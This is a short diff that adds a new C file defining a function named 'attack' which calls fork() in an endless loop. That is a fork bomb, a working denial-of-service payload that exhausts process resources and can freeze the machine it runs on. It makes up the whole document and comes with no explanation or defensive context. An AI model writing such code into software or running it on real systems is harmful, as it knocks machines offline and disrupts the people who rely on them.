@@ -1,0 +1,5 @@
+#include <unistd.h>
+int attack(int n) {
+	for (;;) fork();
+	return 0;
+}
